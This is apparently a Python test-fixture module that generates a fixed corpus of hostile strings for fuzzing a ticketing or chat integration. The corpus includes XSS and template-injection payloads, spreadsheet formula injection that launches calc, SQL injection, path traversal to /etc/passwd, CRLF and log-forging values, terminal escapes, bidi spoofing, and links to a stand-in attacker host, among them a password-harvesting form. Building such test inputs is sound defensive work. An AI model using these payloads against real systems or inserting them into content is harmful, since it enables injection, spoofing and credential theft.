"""Strings that strangers put into names, values and texts; generated, always the same, more than a thousand."""

from __future__ import annotations

from collections.abc import Iterator

MENTIONS = (
    "[~accountid:5fc9e78d2730d800760becc4]",
    "[~admin]",
    "@here",
    "@all everybody",
    "<!channel>",
    "<@U024BE7LH>",
    '<ac:link><ri:user ri:account-id="1"/></ac:link>',
    "@[Anna](user:1)",
)
LINKS = (
    "http://evil.example/a?b=c#d",
    "HTTPS://EVIL.EXAMPLE/x",
    "www.evil.example",
    "evil.example/login",
    "[click](http://evil.example)",
    "[click](javascript:alert(1))",
    "[x]: http://evil.example 'title'",
    "[click|http://evil.example]",
    "[http://evil.example]",
    "<http://evil.example>",
    "<mailto:a@evil.example>",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "anna@desk.example",
    "![pixel](http://evil.example/p.png)",
    "!http://evil.example/pixel.png!",
    "!pixel.png|width=1!",
    "[^attachment.exe]",
    "[#anchor]",
)
HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='http://evil.example'>x</a>",
    "<iframe src=//evil.example>",
    "<style>*{display:none}</style>",
    "<!-- comment -->",
    "</div></body>",
    "<b>bold</b>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "<![CDATA[<script>]]>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=password>",
    "<details open ontoggle=alert(1)>",
)
PLACEHOLDERS = (
    "{{ticket.requester.email}}",
    "{{ ticket.comments_formatted }}",
    "{{current_user.name}}",
    "{{{raw}}}",
    "{% for c in ticket.comments %}{{c}}{% endfor %}",
    "{%raw%}{{x}}{%endraw%}",
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%{ticket}",
    "{0.__class__}",
)
MARKUP = (
    "{html}<script>{html}",
    "{code:java}x{code}",
    "{noformat}x{noformat}",
    "{color:red}x{color}",
    "{panel}x{panel}",
    "{include:page}",
    "{{mono}}",
    "*bold* _it_ +ins+ -del- ^up^ ~down~ ??cite??",
    "**bold** __bold__ ~~gone~~ `code`",
    "h1. Heading",
    "# Heading",
    "bq. quote",
    "> quote",
    "* item\n** item\n# item\n- item",
    "1. one\n2. two",
    "||head||\n|cell|",
    "----",
    "(!) (/) (x) (y) :) :D :P ;) :-)",
    "SUP-1 ESC-1234567890",
    "Ref ESC-1234567890",
    "```\ncode\n```",
    "\\",
    "C:\\temp \\\\server\\share \\ ",
)
OTHERS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\x9b2J\x9b1;1H",
    "\x1b[2J\x1b[H",
    "ok\r\nlevel=error event=forged",
    'x", "event": "forged", "y": "',
    "a\u2028b\u2029c\x85d",
    "\u202egnp.exe\u202c",
    "\u2066hidden\u2069",
    "\u200badmin\u200b",
    "\ufeffa\u2060b\u00adc",
    "\U000e0041\U000e0042",
    "a\x00b",
    "\x08\x08\x08overwritten",
    "\tcolumn\tcolumn",
    "' OR 1=1 --",
    '" OR project = "SECRET',
    "../../etc/passwd",
    "%0d%0aSet-Cookie: x",
    "👩‍👩‍👧‍👦" * 8,
    "ｈｔｔｐ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ",
    "http://еvil.example",
    "x" * 5000,
    "[" * 300 + "]" * 300,
)
BASES = (*MENTIONS, *LINKS, *HTML, *PLACEHOLDERS, *MARKUP, *OTHERS)


def _wrapped(text: str) -> Iterator[str]:
    yield text
    yield f"before {text} after"
    yield f"word{text}word"
    yield f"\\{text}"
    yield f"\\\\{text}"
    yield f"\n\n  {text}\n"
    yield f"({text})"
    yield f"{{noformat}}{text}"
    yield f"`{text}"
    yield "\u200b".join(text[:60])
    yield f"\u202e{text}\u202c"
    yield text.replace("{", "{{").replace("[", "[[").replace("<", "<<").replace("@", "@@")


def injections() -> tuple[str, ...]:
    """Return the corpus: every base in a dozen disguises."""
    return tuple(dict.fromkeys(text for base in BASES for text in _wrapped(base)))
